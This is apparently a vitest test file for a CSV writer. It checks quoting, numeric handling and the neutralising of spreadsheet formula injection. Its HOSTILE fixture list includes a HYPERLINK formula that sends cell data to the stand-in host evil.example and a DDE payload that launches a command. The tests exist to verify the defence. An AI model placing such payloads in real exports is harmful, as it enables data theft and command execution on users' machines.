/**
 * The one CSV writer (shared/csv.ts): RFC 4180 quoting read back by papaparse, formula-leading text neutralised,
 * numbers left numeric, and the demo generator's explicit exemption.
 */
import { describe, it, expect } from 'vitest';
import Papa from 'papaparse';
import { csvCell, csvHeader, csvLine, CSV_BOM } from '#shared/csv.ts';

const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

describe('CSV writer', () => {
  it('neutralises text cells that a spreadsheet would run as a formula, and reads back to the same text after the quote', () => {
    const text = csvHeader(['name', 'amount'], { bom: true }) + HOSTILE.map((h, i) => csvLine([h, -1000 * (i + 1)])).join('');
    expect(text.startsWith(CSV_BOM)).toBe(true);
    const parsed = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    const rows = parsed.data.slice(1);
    expect(rows.map((r) => r[0])).toEqual(HOSTILE.map((h) => `'${h}`));
    // Numbers typed as numbers stay numbers: negative amounts are written as they are, not as text.
    expect(rows.map((r) => r[1])).toEqual(HOSTILE.map((_, i) => String(-1000 * (i + 1))));
    for (const r of rows) expect(r[0]).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('quotes separators, quotes and line ends only; leaves plain Vietnamese text and null as they are', () => {
    expect(csvLine(['Nguyễn Văn An', null, undefined, 0, 'a,b', 'say "hi"', 'two\nlines'])).toBe('Nguyễn Văn An,,,0,"a,b","say ""hi""","two\nlines"\r\n');
    expect(csvLine(['a;b', 'c,d'], { separator: ';', newline: '\n' })).toBe('"a;b";c,d\n');
    expect(csvLine(['a\tb', 'c'], { separator: '\t' })).toBe('"a\tb"\tc\r\n');
    expect(csvCell('x|y', { separator: '|' })).toBe('"x|y"');
    // A text cell that only looks like a negative number is text, and is neutralised like any other text.
    expect(csvCell('-5')).toBe("'-5");
    expect(csvCell(-5)).toBe('-5');
    // The quote goes inside the field, so a quoted formula is neutralised too.
    expect(csvCell('=1,2')).toBe(`"'=1,2"`);
  });

  it('writes values verbatim only when asked explicitly (the demo generator\'s synthetic source files)', () => {
    expect(csvLine(['-1.234.567', '=A1'], { neutraliseFormulas: false, newline: '\n' })).toBe('-1.234.567,=A1\n');
  });
});
